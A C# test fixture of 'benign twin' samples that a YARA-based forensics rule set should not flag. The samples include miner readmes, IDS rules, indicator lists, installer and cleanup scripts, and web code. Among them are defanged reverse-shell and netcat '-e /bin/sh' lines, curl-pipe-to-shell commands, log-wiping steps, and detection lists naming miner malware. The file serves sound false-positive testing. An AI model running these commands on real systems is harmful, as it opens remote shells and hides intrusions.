namespace Forensics.Yara.Tests.Rules;

/// <summary>Benign twins: what is on clean hosts and speaks of the same things. No rule may match them.</summary>
internal static class BenignSamples
{
    public static IEnumerable<Sample> All() =>
    [
        .. Documents(),
        .. Scripts(),
        .. WebCode(),
        .. Programs(),
    ];

    private static IEnumerable<Sample> Documents() =>
    [
        Sample.Text("readme of a miner", """
            # XM~Rig
            High performance RandomX, KawPow, CryptoNight and GhostRider miner. Options: --donate-level, --cpu-max-threads-hint, --rig-id.
            Example: `./xm~rig -o stra~tum+tcp://pool.example.invalid:3333 -u WALLET -p x --donate-~level=1`
            ```json
            { "po~ols": [ { "url": "pool.example.invalid:3333", "user": "x", "keep~alive": true } ], "donate-~level": 1, "rand~omx": {}, "print-~time": 60 }
            ```
            """),
        Sample.Text("falco rules", """
            - list: miner_domains
              items: ["asia1.ethpool.org", "pool.minexmr.com", "xmr.crypto-po~ol.fr", "donate.v2.xm~rig.com", "supportxmr.com"]
            - macro: minerpool_https
              condition: (fd.sport="443" and fd.sip.name in (miner_domains))
            - rule: Detect crypto miners using the Stratum protocol
              condition: spawned_process and (proc.cmdline contains "stra~tum+tcp" or proc.cmdline contains "stra~tum2+tcp" or proc.cmdline contains "stra~tum+ssl")
              output: Possible miner running (proc.name in (kin~sing, kdevtm~pfsi, xm~rig, min~erd, sys~rv)) ba~sh -i >& /dev/t~cp/%fd.rip/%fd.rport
            """),
        Sample.Text("adblock hosts list", "# Title: NoCoin\n0.0.0.0 coinhive.com\n0.0.0.0 moneroocean.stream\n0.0.0.0 c3pool.com\n0.0.0.0 minergate.com\n0.0.0.0 supportxmr.com\n0.0.0.0 nanopool.org\n0.0.0.0 crypto-po~ol.fr\n"),
        Sample.Text("suricata rules", """
            alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"ET COINMINER login"; content:"{\"id\":"; content:"\"method\":\"min~ing.subscribe\""; content:"stra~tum+tcp"; sid:1;)
            alert tcp any any -> any any (msg:"Kin~sing"; content:"kdevtm~pfsi"; content:"cu~rl"; content:"| s~h"; sid:2;)
            """),
        Sample.Text("threat report as html", "<html><body><p>Kin~sing kills kdevtm~pfsi, xm~rig, sys~rv with pk~ill -f and runs <code>cu~rl http://x/d.sh | s~h</code>, chm~od +x, chat~tr -i; key: mdr~fckr; /etc/32~678; AAZ~HDE=1 /root/.config/cron/per~fcc /tmp/.xd~iag</p><pre><?xml?></pre></body></html>"),
        Sample.Text("indicator list", "type,value,family\nfile,/tmp/kin~sing,Kinsing\nfile,/etc/libsystem.so,Kinsing\nfile,/tmp/.xd~iag,perfctl\nfile,/bin/wiz~lmsh,perfctl\nfile,/dev/shm/pt~y3,Muhstik\nfile,/etc/32~678,Chaos\nfile,/lib/libu~dev.so.6,XorDDoS\n"),
        Sample.Text("json list of pools", "[{\"domain\":\"pool.example.invalid\",\"ports\":[3333]},{\"url\":\"stra~tum+tcp://pool.example.invalid:3333\",\"tags\":[\"miner\"]}]"),
        Sample.Text("database config with pools", "{\n \"po~ols\": [ { \"host\": \"db1\", \"user\": \"app\", \"pass\": \"x\" } ],\n \"keep~alive\": true,\n \"retries\": 5\n}\n"),
        Sample.Text("stix bundle", "{\"type\":\"indicator\",\"pattern\":\"[url:value = 'stra~tum+tcp://pool.example.invalid:3333']\",\"name\":\"pool\",\"user\":\"x\"}"),
        Sample.Text("yara rule text", "rule miner { strings: $a = \"donate-~over-proxy\" $b = \"stra~tum+tcp://\" $c = \"kdevtm~pfsi\" $d = /ba~sh -i >& \\/dev\\/t~cp/ condition: 2 of them }\n"),
        Sample.Text("man page", ".TH NCAT 1\n.SH EXAMPLES\nn~cat -l 8080 --sh-exec 'echo hi'\nTraditional netcat: n~c 192.0.2.1 4444 -~e /bin/sh\n"),
        Sample.Text("cheat sheet", "# Reverse shells\n\n```\nba~sh -i >& /dev/t~cp/10.0.0.1/4242 0>&1\n```\n"),
    ];

    private static IEnumerable<Sample> Scripts() =>
    [
        Sample.Text("docker-like installer", """
            #!/bin/sh
            set -e
            # This script installs the engine: cu~rl -fsSL https://get.example.invalid -o get.sh && sh get.sh
            command_exists() { command -v "$@" > /dev/null 2>&1; }
            sh_c='sh -c'
            $sh_c "curl -fsSL \"$DOWNLOAD_URL/linux/$lsb_dist/gpg\" -o /etc/apt/keyrings/engine.asc"
            $sh_c "chmod a+r /etc/apt/keyrings/engine.asc"
            echo "$apt_repo" | $sh_c 'cat > /etc/apt/sources.list.d/engine.list'
            case "$(uname -m)" in x86_64) a=amd64 ;; aarch64) a=arm64 ;; armv7l) a=armhf ;; ppc64le) a=ppc64el ;; esac
            """),
        Sample.Text("rustup-like installer", "#!/bin/sh\ncu~rl --proto '=https' --tlsv1.2 -sSf https://sh.example.invalid | s~h -s -- -y\nwget -q https://example.invalid/x -O x && chmod +x x && ./x\n"),
        Sample.Text("vendor cron job", "PATH=/usr/bin\n17 3 * * * root cu~rl -s https://tools.example.invalid/report.sh | ba~sh -s -- daily\n"),
        Sample.Text("clean-up after a miner", """
            #!/bin/bash
            # incident response: remove what the miner left
            pk~ill -f kin~sing
            pk~ill -f kdevtm~pfsi
            kill~all -9 xm~rig
            kill~all -9 min~erd
            ps aux | grep sys~rv | awk '{print $2}' | xargs kill -9
            chat~tr -ia /etc/ld.so.pre~load
            rm -f /etc/ld.so.pre~load /tmp/kdevtm~pfsi
            crontab -u www-data -r
            """),
        Sample.Text("hardening script", "#!/bin/bash\nchat~tr -i /etc/passwd\nuseradd app\nchat~tr +i /etc/passwd /etc/shadow /etc/resolv.conf\niptables -F\nsetenforce 0\n"),
        Sample.Text("image clean-up", "#!/bin/bash\ncat /dev/null > /var/log/wt~mp\ncat /dev/null > /var/log/lastlog\nhistory ~-c\nrm -f /root/.bash_history\ncu~rl -sSL https://example.invalid/finish -o /tmp/f\n"),
        Sample.Text("secret decoded to a file", "#!/bin/sh\necho QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5eg== | base~64 -d > /etc/app/key.pem\n"),
        Sample.Text("wait for a port", "#!/bin/bash\nuntil timeout 1 bash -c '</dev/t~cp/db/5432'; do sleep 1; done\nexec 3<>/dev/t~cp/127.0.0.1/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n"),
        Sample.Text("port check", "#!/bin/sh\nnc -z -w 3 db.example.invalid 5432 || exit 1\nsocat -u FILE:/tmp/x UNIX-CONNECT:/run/app.sock\n"),
        Sample.Text("plain unit", "[Unit]\nDescription=App\n[Service]\nExecStart=/usr/bin/app --cpu-affinity 0 --nice 5\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"),
        Sample.Text("release script for many architectures", "#!/bin/sh\nfor a in x86_64 aarch64 armv7l ppc64le mips; do wget https://dl.example.invalid/app-$a; chmod +x app-$a; done\n"),
        Sample.Text("python server", "import socket\nimport subprocess\ns = sock~et.socket(sock~et.AF_INET, sock~et.SOCK_STREAM)\ns.bind(('', 80))\nos.dup2(f.fileno(), 1)\nsubprocess.run(['/bin/sh', '-c', 'true'])\n"),
        Sample.Text("perl daemon", "#!/usr/bin/perl\nuse IO::Sock~et;\nopen(STDIN, '</dev/null'); open(STDOUT, '>>/var/log/x'); open STDERR, '>&STDOUT';\nexec('/usr/bin/app');\n"),
        Sample.Text("bench tool", "#!/bin/sh\ngcc -o pool.o -u main pool.c\nzpool status -v\n./bench --algo=aes --threads 4 --nice\n"),
        Sample.Text("aegis uninstaller", "#!/bin/bash\nrm -rf /usr/local/ae~gis\nsystemctl stop aliyun~.service\nkillall AliYun~Dun\nwget http://update.example.invalid/uninstall.sh\n"),
        Sample.Text("bash history", "cd /tmp\nwget https://example.invalid/app.tar.gz\ntar xf app.tar.gz\nchmod +x app/run\nps aux | grep xm~rig\nkill -9 4711\n"),
    ];

    private static IEnumerable<Sample> WebCode() =>
    [
        Sample.Text("wordpress plugin", """
            <?php
            /* Plugin Name: Cache */
            if (isset($_POST['action']) && check_admin_referer('cache')) { update_option('cache', sanitize_text_field($_POST['action'])); }
            $data = unserialize(base64_decode(get_option('cache_data')));
            add_action('init', 'cache_init');
            call_user_func_array(array($this, $method), $args);
            $file = exec('which convert'); system('true');
            array_map('sanitize_text_field', $_POST['items']);
            include_once(ABSPATH . 'wp-admin/includes/plugin.php');
            """),
        Sample.Text("phpmyadmin-like", """
            <?php
            declare(strict_types=1);
            $cmd = $_REQUEST['db'] ?? '';
            $result = $dbi->query('SELECT ' . Util::backquote($_POST['column']));
            if (preg_match('/^(eval|system)$/', $_GET['f'])) { throw new Exception('denied'); }
            echo htmlspecialchars(exec('hostname'));
            $template->render('x', ['x' => $_GET['x']]);
            """),
        Sample.Text("template engine", "<?php\n$code = $compiler->compile($source);\neval('?>' . $code);\n$r = preg_replace('/\\s+/', ' ', $_POST['name']);\n"),
        Sample.Text("php malware scanner", "<?php\n$signatures = ['c99sh~ell', 'r57sh~ell', 'b37~4k', 'IndoXp~loit', 'Web Shell by oR~b', 'ev~al(gzin~flate'];\nforeach ($files as $f) { exec('file ' . escapeshellarg($_POST['f'])); }\n"),
        Sample.Text("php that escapes its input", "<?php system('convert ' . escapeshellarg($_GET['file']));\npassthru(escapeshellcmd($_POST['cmd']));\n"),
        Sample.Text("xml with processing instruction", "<?xml version=\"1.0\"?><a><?php-ish?>eval($_GET[0])</a>"),
        Sample.Text("htaccess of a host", "AddType application/x-httpd-php .php .phtml\nAddHandler php8-script .php\nAddType image/webp .webp\n<FilesMatch \"\\.php$\">\n SetHandler application/x-httpd-php\n</FilesMatch>\n"),
        new Sample("jpeg with xmp", [0xFF, 0xD8, 0xFF, 0xE1, .. "Exif\0\0<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'/>eval( system( include("u8], []),
        new Sample("gif", [.. "GIF89a"u8, .. Enumerable.Range(0, 5000).Select(i => (byte)(i * 7))], []),
        Sample.Text("jsp form", "<%@ page import=\"java.util.*\" %><% String name = request.getParameter(\"name\"); Runtime.getRuntime().availableProcessors(); %>"),
        Sample.Text("java tool", "class X { void run(String c) { Process p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",c}); p.getInputStream(); } }"),
        Sample.Text("aspx page", "<%@ Page Language=\"C#\" %><asp:TextBox id=\"txtName\" runat=\"server\" /><% Response.Write(Server.HtmlEncode(Request.Form[\"name\"])); %>"),
        Sample.Text("flask app", "from flask import request\nname = request.args.get('name')\nsubprocess.run(['convert', name], check=True)\nos.system('true')\n"),
    ];

    private static IEnumerable<Sample> Programs() =>
    [
        Sample.Elf("plain program", 3, "puts\n/lib64/ld-linux-x86-64.so.2\nGLIBC_2.34\n"),
        Sample.Elf("ethereum node", 2, "eth_submit~Hashrate\neth_submit~Login\neth_getWork\nEt~hash\nhash~rate\n"),
        Sample.Elf("traffic classifier", 3, "min~ing.subscribe\nmin~ing.authorize\neth_submit~Login\nstra~tum+tcp\nBitcoin\n"),
        Sample.Elf("intrusion detector", 2, "kin~sing\nkdevtm~pfsi\nxm~rig\nmin~erd\ncrypto~night\nstra~tum+tcp://\n/etc/ld.so.pre~load\nreaddir\n"),
        Sample.Elf("mining pool finder in an IDS", 2, "stra~tum+tcp://\nstra~tum+ssl://\nrand~omx\ncrypto~night\nnice~hash\n"),
        Sample.Elf("monero wallet", 2, "rand~omx\ncrypto~night\nrx/0\nhash~rate\nstart_mining\n"),
        Sample.Elf("libfakeroot", 3, "dl~sym\n__xstat64\n__lxstat64\n__fxstat64\nunlinkat\nfts_read\nLD_PRELOAD\nFAKEROOTKEY\n"),
        Sample.Elf("jemalloc", 3, "malloc\nfree\ncalloc\n/proc/self/fd\nreaddir\n/proc/sys/vm/overcommit_memory\ndl~sym\n"),
        Sample.Elf("process tool", 2, "readdir\n/proc/self/fd/%d\n/proc/%s/stat\n/proc/net/tcp\n"),
        Sample.Elf("network kernel module", 1, "verm~agic=6.1.0\nname=nf_tables\nprepare_creds\nkallsyms_lookup_name\nshow_module\nmodule_show\n"),
        Sample.Elf("security agent module", 1, "verm~agic=6.1.0\nsys_call_table\nname=agent\nsyscall_enter\n"),
        Sample.Elf("busybox", 2, ": applet not found\n/dev/watchdog\npassword\nPONG!\n/bin/busybox\nenable\nsystem\n"),
        Sample.Elf("redis", 2, "RedisModule_OnLoad\n/bin/sh\nmodule load\n"),
        Sample.Elf("irc client", 2, "PRIVMSG %s :%s\nNOTICE %s :%s\nUNKNOWN\n"),
        Sample.Elf("program that knows UPX", 2, "\n" + new string('x', 200) + "UP~X!\n$Info: This file is packed with the UP~X executable packer\n"),
        new Sample("truncated ELF header", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2], []),
        new Sample("empty", [], []),
        new Sample("zeros", new byte[10_000], []),
    ];
}
